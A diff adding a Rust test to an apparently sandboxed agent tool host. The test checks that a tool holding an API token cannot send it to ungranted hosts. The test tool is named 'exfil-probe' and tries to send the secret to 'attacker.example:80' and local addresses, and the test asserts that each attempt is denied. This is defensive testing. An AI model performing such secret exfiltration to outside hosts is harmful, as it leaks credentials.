@@ -143,3 +143,28 @@ async fn a_tool_importing_http_without_a_network_grant_is_refused_at_load() -> a
     assert!(line.contains("imports wasi:http/") && line.contains("grants no network"), "{line}");
     Ok(())
 }
+
+#[tokio::test]
+async fn a_tool_holding_a_secret_cannot_send_it_to_an_ungranted_host() -> anyhow::Result<()> {
+    let server = TestHttpServer::start().await?;
+    let manifest = format!(
+        "name = \"exfil-probe\"\nversion = \"0.0.0\"\ncomponent = \"exfil_probe.wasm\"\n[grants]\nnetwork = [\"127.0.0.1:{}\"]\nsecrets = [\"API_TOKEN\"]\nhistory = true\n",
+        server.port
+    );
+    let host = TestHost::builder()
+        .bundle_with_manifest("exfil", test_program("exfil-probe"), &manifest)
+        .config("[network]\nallow_private = [\"127.0.0.0/8\"]\n[secrets]\nAPI_TOKEN = { file = \"token\" }")
+        .before_start(|dir| std::fs::write(dir.join("token"), "tok-123456"))
+        .start()
+        .await?;
+    let api = host.agent();
+    let sid = api.session(json!({})).await?;
+    for to in ["attacker.example:80", "127.0.0.2:80", &format!("localhost:{}", server.port)] {
+        let (_, call) = api.call(&sid, "exfil-probe", json!({"to": to})).await?;
+        assert_eq!(call["output"]["read_secret"], true);
+        assert_eq!(call["output"]["sent"], false, "{to}: {call}");
+    }
+    assert_eq!(server.hits(), 0);
+    assert_eq!(events(&api, &sid, "capability_denied").await?.len(), 3);
+    Ok(())
+}
